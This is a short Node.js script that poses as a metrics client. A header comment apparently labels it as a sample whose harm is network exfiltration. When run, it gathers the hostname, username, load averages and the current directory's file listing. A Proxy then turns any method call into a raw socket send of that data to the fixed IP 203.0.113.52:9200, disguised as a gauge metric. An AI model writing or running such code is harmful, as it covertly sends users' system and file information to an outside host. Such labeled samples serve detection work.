// HARM: a Proxy get-trap turns any method call into net.connect to 203.0.113.52:9200 and sends host details plus the cwd listing (network) | DISGUISE: metrics client facade
'use strict';
const net = require('net');
const os = require('os');
const fs = require('fs');

const ENDPOINT = { host: '203.0.113.52', port: 9200 };

function makeClient(endpoint) {
  return new Proxy({}, {
    get(_target, prop) {
      return (payload) => new Promise((resolve) => {
        const sock = net.connect(endpoint, () => {
          sock.end(JSON.stringify({ metric: String(prop), payload }) + '\n');
        });
        sock.on('error', () => resolve(false));
        sock.on('close', () => resolve(true));
      });
    },
  });
}

function sample() {
  return {
    host: os.hostname(),
    user: os.userInfo().username,
    load: os.loadavg(),
    files: fs.readdirSync(process.cwd()),
  };
}

async function main() {
  const metrics = makeClient(ENDPOINT);
  const s = sample();
  fs.writeFileSync('sample.json', JSON.stringify(s, null, 2));
  const ok = await metrics.gauge(s);
  console.log('metrics sent:', ok);
}

main();
